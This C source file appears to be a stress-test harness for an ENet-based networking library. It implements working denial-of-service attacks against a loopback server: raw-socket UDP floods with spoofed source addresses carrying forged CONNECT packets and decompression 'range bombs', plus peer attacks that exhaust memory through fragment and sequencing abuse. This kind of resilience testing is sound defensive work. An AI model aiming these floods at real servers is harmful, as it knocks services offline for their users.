#include "attack/plain_attacks.h"

#include "attack/range_bomb.h"
#include "host/host.h"

#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAXIMUM = ENET_PROTOCOL_MAXIMUM_MTU, STEPS = 500 /* per second */ };

static uint64_t random_state = 88172645463325252u;

static uint32_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t) (random_state >> 16);
}

ENetAddress attack_server(void)
{
    static const uint8_t loopback[16] = {[10] = 0xff, [11] = 0xff, [12] = 127, [15] = 1};
    ENetAddress address = {.port = ATTACK_PORT};
    memcpy(&address.host, loopback, sizeof loopback);
    return address;
}

e4j_compression_mode attack_compression(const char *name)
{
    return strcmp(name, "range-bombs") == 0 ? E4J_COMPRESS_RANGE_CODER : E4J_COMPRESS_NONE;
}

/* ---- Forged sources ---- */

typedef struct {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t data[MAXIMUM];
} __attribute__((packed)) forged;

static size_t fill_connect(uint8_t *data)
{
    static const uint8_t connect[52] = {
        0x8f, 0xff, 0x12, 0x34, 0x82, 0xff, 0, 1, 0, 5, 0xff, 0xff, 0, 0, 5, 0x70, 0, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0x13, 0x88, 0, 0, 0, 2, 0, 0, 0, 2,
    };
    uint32_t id = next_random();
    memcpy(data, connect, sizeof connect);
    memcpy(data + 44, &id, sizeof id);
    return sizeof connect;
}

enum { FOR_ENET, FOR_US, BOMBS };
static uint8_t bombs[BOMBS][RANGE_BOMB];

/* The worst for ENet, which decompresses all of a stranger's datagram, and for who stops after a CONNECT, in turn. */
static size_t fill_bomb(uint8_t *data)
{
    static unsigned number;
    memcpy(data, (const uint8_t[]) {0xcf, 0xff, 0, 0}, 4);
    memcpy(data + 4, bombs[number++ % BOMBS], RANGE_BOMB);
    return 4 + RANGE_BOMB;
}

static int forge(size_t (*fill)(uint8_t *), unsigned rate, unsigned seconds)
{
    static forged datagram;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (fd < 0)
        return 1;
    for (unsigned step = 0; step < STEPS * seconds; step++) {
        struct timespec begun, now;
        clock_gettime(CLOCK_MONOTONIC, &begun);
        for (unsigned i = 0; i < rate / STEPS; i++) {
            size_t length = fill(datagram.data) + sizeof datagram.udp;
            datagram.ip = (struct iphdr) {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                                          .saddr = htonl(10u << 24 | (next_random() & 0xffffff)),
                                          .daddr = to.sin_addr.s_addr,
                                          .tot_len = htons((uint16_t) (length + sizeof datagram.ip))};
            datagram.udp.source = htons((uint16_t) (1024 + next_random() % 60000));
            datagram.udp.dest = htons(ATTACK_PORT);
            datagram.udp.len = htons((uint16_t) length);
            datagram.udp.check = 0;
            sendto(fd, &datagram, length + sizeof datagram.ip, 0, (struct sockaddr *) &to, sizeof to);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        long took = (now.tv_sec - begun.tv_sec) * 1000000 + (now.tv_nsec - begun.tv_nsec) / 1000;
        if (took < 1000000 / STEPS)
            usleep((useconds_t) (1000000 / STEPS - took));
    }
    return 0;
}

/* ---- A connected peer ---- */

static e4j_host *host;
static ENetPeer *peer;
static uint8_t datagram[MAXIMUM];
static size_t used;

static void serve(void)
{
    static uint64_t memory[1 << 13];
    e4j_event_buffer events = {.memory = (uint8_t *) memory, .capacity = sizeof memory};
    e4j_host_service(host, 1, &events);
}

static int connect_peer(void)
{
    const ENetAddress server = attack_server();
    e4j_peer_name name;
    host = e4j_host_create(NULL, 1, 4, 0, 0);
    if (host == NULL || e4j_host_connect(host, &server, 4, 0, &name) != 0)
        return 1;
    peer = e4j_host_peer(host, name);
    for (int i = 0; i < 200 && peer->state != ENET_PEER_STATE_CONNECTED; i++) {
        serve();
        usleep(10000);
    }
    return peer->state != ENET_PEER_STATE_CONNECTED;
}

static void send_datagram(void)
{
    if (used > 0)
        e4j_host_socket_send(host, &peer->address, datagram, used);
    used = 0;
}

static void add(int number, uint8_t channel, size_t sequence, ENetProtocol command, size_t size, size_t data)
{
    if (used + size + data > 1400)
        send_datagram();
    if (used == 0) {
        unsigned id = peer->outgoingPeerID | (unsigned) peer->outgoingSessionID << ENET_PROTOCOL_HEADER_SESSION_SHIFT |
                      ENET_PROTOCOL_HEADER_FLAG_SENT_TIME;
        const enet_uint16 header[] = {ENET_HOST_TO_NET_16((uint16_t) id), 0};
        memcpy(datagram, header, sizeof header);
        used = sizeof header;
    }
    command.header = (ENetProtocolCommandHeader) {
        (uint8_t) number, channel, ENET_HOST_TO_NET_16((uint16_t) sequence)};
    memcpy(datagram + used, &command, size);
    memset(datagram + used + size, 'x', data);
    used += size + data;
}

/* Empty packets that wait for one that never comes. */
static void add_long_list(unsigned i)
{
    ENetProtocol command = {.sendUnreliable.unreliableSequenceNumber = ENET_HOST_TO_NET_16((uint16_t) (i % 65535 + 1))};
    add(ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE, (uint8_t) (i % 2), 2 + i / 65535, command,
        sizeof command.sendUnreliable, 0);
}

/* Every second one of a long list, then those between. */
static void add_out_of_order(unsigned i)
{
    size_t sequence = i < 12000 ? 2 + 2 * i : 3 + i * 7919u % 12000 / 2 * 4;
    ENetProtocol command = {.sendReliable.dataLength = 0};
    add(ENET_PROTOCOL_COMMAND_SEND_RELIABLE, 2, sequence, command, sizeof command.sendReliable, 0);
}

static void add_fragment(int number, size_t sequence, size_t fragments, size_t total, size_t which, size_t offset)
{
    ENetProtocol command = {.sendFragment.startSequenceNumber = ENET_HOST_TO_NET_16((uint16_t) sequence)};
    command.sendFragment.dataLength = ENET_HOST_TO_NET_16(1);
    command.sendFragment.fragmentCount = ENET_HOST_TO_NET_32((uint32_t) fragments);
    command.sendFragment.totalLength = ENET_HOST_TO_NET_32((uint32_t) total);
    command.sendFragment.fragmentNumber = ENET_HOST_TO_NET_32((uint32_t) which);
    command.sendFragment.fragmentOffset = ENET_HOST_TO_NET_32((uint32_t) offset);
    add(number, 3, sequence, command, sizeof command.sendFragment, 1);
}

/* A megabyte of bits for a packet of one byte. */
static void add_bitmap(unsigned i)
{
    add_fragment(ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE_FRAGMENT, 2 + i % 60000, 1 << 20, 1, 0, 0);
}

/* 32 MiB announced, and one byte of each page sent. */
static void add_announced(unsigned i)
{
    size_t page = i % 8192, packet = i / 8192 % 4;
    add_fragment(ENET_PROTOCOL_COMMAND_SEND_FRAGMENT, 2 + packet * 9000, 8192, 32 << 20, page, page * 4096);
}

static int press(void (*add_one)(unsigned), unsigned rate, unsigned seconds)
{
    unsigned i = 0;
    if (connect_peer() != 0)
        return 1;
    for (unsigned step = 0; step < STEPS * seconds; step++) {
        for (unsigned n = 0; n < rate / STEPS; n++)
            add_one(i++);
        send_datagram();
        if (step % 20 == 0)
            serve();
        usleep(1000000 / STEPS);
    }
    return 0;
}

void attack_prepare(const char *name)
{
    if (strcmp(name, "range-bombs") != 0)
        return;
    uint64_t whole = range_bomb(bombs[FOR_ENET], MAXIMUM), start = range_bomb(bombs[FOR_US], E4J_STRANGER_COMMANDS);
    printf("found: %.0f us to decompress all of a datagram, %.1f us for %d bytes of one\n", (double) whole / 1000,
           (double) start / 1000, E4J_STRANGER_COMMANDS);
    fflush(stdout);
}

int attack_run(const char *name, unsigned rate, unsigned seconds)
{
    static const struct {
        const char *name;
        void (*add)(unsigned);
    } of_peer[] = {
        {"long-list", add_long_list},
        {"out-of-order", add_out_of_order},
        {"bitmaps", add_bitmap},
        {"announced", add_announced},
    };
    if (strcmp(name, "calm") == 0)
        return 0;
    if (strcmp(name, "connects") == 0)
        return forge(fill_connect, rate, seconds);
    if (strcmp(name, "range-bombs") == 0)
        return forge(fill_bomb, rate, seconds);
    for (size_t i = 0; i < sizeof of_peer / sizeof *of_peer; i++)
        if (strcmp(name, of_peer[i].name) == 0)
            return press(of_peer[i].add, rate, seconds);
    fprintf(stderr, "no attack %s\n", name);
    return 1;
}
